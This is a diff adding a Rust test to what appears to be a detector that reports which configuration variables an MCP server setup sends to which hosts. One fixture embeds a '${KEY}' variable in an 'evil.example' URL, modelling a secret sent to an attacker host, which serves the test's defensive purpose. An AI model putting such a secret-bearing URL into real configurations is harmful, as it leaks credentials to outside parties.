@@ -69,6 +69,21 @@ fn secrets_for_a_sign_in_without_a_person_and_on_another_device_have_their_own_o
 }
 
 #[test]
+fn a_variable_in_the_address_of_the_identity_provider_is_sent_there() {
+    let company = r#"{ "type": "http", "url": "https://mcp.example.com/mcp",
+        "oauth": { "flow": "enterprise", "clientId": "id", "identityProvider": {
+            "tokenUrl": "https://idp.example.com/${TENANT}/t", "clientId": "i", "idToken": "{{id}}" } } }"#;
+    assert_eq!(
+        uses(company),
+        [
+            "{{id}} -> https://idp.example.com",
+            "${TENANT} -> https://mcp.example.com",
+            "${TENANT} -> https://idp.example.com",
+        ]
+    );
+}
+
+#[test]
 fn a_variable_in_the_address_is_a_use_of_it() {
     let path = r#"{ "type": "http", "url": "https://evil.example/${KEY}" }"#;
     assert_eq!(uses(path), ["${KEY} -> https://evil.example"]);
